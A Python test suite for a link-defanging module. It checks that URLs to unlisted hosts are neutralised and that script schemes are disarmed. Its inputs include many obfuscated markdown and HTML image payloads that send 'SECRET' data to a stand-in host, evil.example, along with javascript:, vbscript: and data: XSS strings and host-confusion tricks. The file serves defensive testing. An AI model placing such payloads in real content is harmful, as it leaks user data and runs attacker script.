"""Addresses in texts: listed hosts stay, others can neither be followed nor fetched, and nothing can be run."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from customhouse.core.links import Addresses, host_of

LISTED = ("docs.example.org", "*.cdn.example")


def links(text: str) -> str:
    return Addresses(LISTED, None).defanged(text, {})


def images(text: str) -> str:
    return Addresses(None, LISTED).defanged(text, {})


KEPT = [
    "https://docs.example.org/a?b=c#d",
    "HTTPS://DOCS.EXAMPLE.ORG:8443/",
    "(https://docs.example.org), <https://docs.example.org>; https://docs.example.org.",
    "http://a.cdn.example/x",
    "[x](https://docs.example.org/y)",
    "see https: the protocol, note: http:",
    "path //srv/data // a comment",
    "ratio 1:2, C:\\temp\\x, git@host.example:x/y",
]


@pytest.mark.parametrize("text", KEPT)
def test_an_address_of_a_listed_host_and_what_is_none_stay(text: str) -> None:
    assert links(text) == text


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("https://evil.example/x?d=1", "hxxps://evil[.]example/x?d=1"),
        ("http://docs.example.org.evil.example", "hxxp://docs[.]example[.]org[.]evil[.]example"),
        ("https://docs.example.org@evil.example/", "hxxps://docs[.]example[.]org@evil[.]example/"),
        ("https://evil.example\\@docs.example.org", "hxxps://evil[.]example\\@docs.example.org"),
        ("https://docs.example.org\\.evil.example", "hxxps://docs[.]example[.]org\\.evil.example"),
        ("https://docs.example.org%2eevil.example", "hxxps://docs[.]example[.]org%2eevil[.]example"),
        ("https:\\\\evil.example", "hxxps://evil[.]example"),
        ("https:evil.example", "hxxps://evil[.]example"),
        ("wss://evil.example", "wss[:]//evil[.]example"),
        ("[x](//evil.example/y)", "[x](hxxps://evil[.]example/y)"),
        ("https://cdn.example", "hxxps://cdn[.]example"),
        ("https://[2001:db8::1]/", "hxxps://[2001:db8::1]/"),
    ],
)
def test_an_address_of_another_host_cannot_be_followed(text: str, shown: str) -> None:
    assert links(text) == shown
    assert links(shown) == shown


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://docs.example.org/a.png)",
        "![a](picture.png) ![b](/picture.png)",
        '<img src="https://a.cdn.example/x.png">',
        "[a link](https://evil.example) is no image",
        "![a][1]\n\n[1]: https://docs.example.org/a.png",
        "a < b and image > c",
    ],
)
def test_an_image_of_a_listed_host_stays(text: str) -> None:
    assert images(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "![a](https://evil.example/p?d=SECRET)",
        "![a]( <https://evil.example/p?d=SECRET> 'title')",
        "![a [b [c [d]]]](https://evil.example/SECRET)",
        "[![a](https://evil.example/SECRET)](https://docs.example.org)",
        "![a](//evil.example/SECRET)",
        "![a](https:/evil.example/SECRET)",
        "![a](https&colon;//evil.example/SECRET)",
        "![a](https:\\/\\/evil.example/SECRET)",
        "![a][1]\n\n[1]: https://evil.example/SECRET",
        '<img src="https://evil.example/SECRET">',
        "<IMG\nalt=x src = https://evil.example/SECRET >",
        '<img src="https&#58;//evil.example/SECRET">',
        '<img src="ht\ntps://evil.example/SECRET">',
        '<img srcset="https://docs.example.org/a 1x, https://evil.example/SECRET 2x">',
        '<video poster="https://evil.example/SECRET">',
        '<link rel="stylesheet" href="https://evil.example/SECRET">',
        '<div style="background: url(https://evil.example/SECRET)">',
        '<img src="https://evil.example/SECRET"',
        '<img src="//evil.example/SECRET">',
        "<td background=//evil.example/SECRET>",
        "<svg><use href='//evil.example/SECRET#x'/></svg>",
        '<img src=" //evil.example/SECRET">',
        '<img src="///evil.example/SECRET">',
        '<img alt=">" src="https://evil.example/SECRET">',
        '<img srcset="https://docs.example.org/a, //evil.example/SECRET 2x">',
        "<style>a{background:url( //evil.example/SECRET)}</style>",
        "<style>a{background:url(      ' //evil.example/SECRET')}</style>",
        "<svg><image href=' //evil.example/SECRET'/></svg>",
        "![a]( //evil.example/SECRET)",
        "![a](          https://evil.example/SECRET)",
        "![a](/\\evil.example/SECRET)",
        "![a][1]\n\n[1]: //evil.example/SECRET",
        "![a][1]\n\n[1]:\n//evil.example/SECRET",
        "![a][1]\n\n- [1]: <//evil.example/SECRET>",
        "![a][b\\]]\n\n[b\\]]: //evil.example/SECRET",
        "![a][1]\n\n[1]: &sol;&sol;evil.example/SECRET",
    ],
)
def test_an_image_of_another_host_cannot_be_fetched(text: str) -> None:
    clean = images(text)
    assert "//evil.example" not in clean
    assert "evil.example/SECRET" not in clean
    assert images(clean) == clean


@pytest.mark.parametrize("text", ['<img src="//2130706433/x">', "<img src=//[::1]/x>", "![a](//evil/x)", "<img src='//a_b.evil.example/'>"])
def test_a_host_without_a_dot_is_foreign_in_markup(text: str) -> None:
    assert "//" not in images(text)


@pytest.mark.parametrize(
    "text",
    [
        '<img src="/a//b.example/c">',
        "[1]: /docs//a.example",
        "[note]: see below",
        "[1]: #a",
        "[x]: mailto:a@b.example",
        '<img src="a.png" alt="a // b">',
    ],
)
def test_a_path_is_no_address_of_a_host(text: str) -> None:
    assert images(text) == text
    assert links(text) == text


@pytest.mark.parametrize("text", ["[x]( //evil.example/y)", "[x][1]\n\n[1]: //evil.example/y", "<a href=' //evil.example/y'>"])
def test_a_link_is_judged_wherever_its_target_stands(text: str) -> None:
    assert "hxxps://evil[.]example/y" in links(text)
    assert links(links(text)) == links(text)


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "<a href='java\tscript:alert(1)'>",
        "<a href='vbscript:x'>",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "<a href=' javascript: alert(1)'>",
        "[x](&#106;avascript:alert(1))",
        "<a href=javascript&colon;alert(1)>",
        "javascript:alert(1)",
    ],
)
def test_what_a_reader_would_run_is_defanged_whatever_is_listed(text: str) -> None:
    clean = Addresses(None, None).defanged(text, {})
    assert "[:]" in clean or "[&]" in clean
    assert Addresses(None, None).defanged(clean, {}) == clean


@pytest.mark.parametrize(
    "text",
    [
        "Learn JavaScript: it runs in browsers.",
        "data: three rows",
        "data:image/png;base64,iVBOR",
        "A/B data:text",
        "[x](https://a.example/?a=1&#38;b=2)",
    ],
)
def test_what_only_sounds_like_it_stays(text: str) -> None:
    assert Addresses(None, None).defanged(text, {}) == text


@pytest.mark.parametrize(("authority", "host"), [("A.Example.:80", "a.example"), ("u:p@h", "h"), ("h:x", ""), ("é.example", ""), ("", "")])
def test_a_host_is_told_or_it_is_nobodys(authority: str, host: str) -> None:
    assert host_of(authority) == host


@given(st.text("htps:/\\.@evil.exampledocs%?#[]()! <>\n\"'=", max_size=60))
def test_no_spelling_leaves_an_address_of_another_host_that_begins_plainly(text: str) -> None:
    clean = links(f"https://evil.example/{text}")
    assert clean.startswith("hxxps://evil[.]example")
